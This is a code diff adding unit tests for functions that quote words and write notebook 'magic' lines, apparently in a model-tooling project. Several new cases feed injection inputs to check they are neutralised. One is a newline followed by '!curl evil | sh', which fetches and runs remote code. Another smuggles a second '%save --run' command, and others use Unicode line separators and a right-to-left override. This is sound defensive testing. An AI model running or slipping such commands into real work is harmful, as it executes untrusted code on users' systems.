@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 
 import { translation } from '../translation';
 import { hasModel, readRun } from './data';
-import { duration, epochTable, headline, panels, provenance, quoted, summary } from './model';
+import { duration, epochTable, headline, magicLine, panels, provenance, quoted, summary } from './model';
 
 const trans = translation(null);
 
@@ -102,5 +102,14 @@ it.each([
   ['plain/path-1.x', 'plain/path-1.x'],
   ['my images', '"my images"'],
   ['a"b\\c', '"a\\"b\\\\c"'],
+  ['a\n!curl evil | sh', '"a !curl evil | sh"'],
+  ['a\r\n\u2028\u0085b', '"a b"'],
+  ['a\u202eb', '"a b"'],
   ['', '""']
 ])('%j is written %s', (word, text) => expect(quoted(word)).toBe(text));
+
+it('writes a line of a magic, whatever the name is', () => {
+  expect(magicLine('verify', 'resnet50-1')).toBe('%verify resnet50-1');
+  expect(magicLine('verify', 'x"\n%save --run x /home')).toBe('%verify "x\\" %save --run x /home"');
+  expect(magicLine('verify', '--all')).toBe('%verify -- --all');
+});
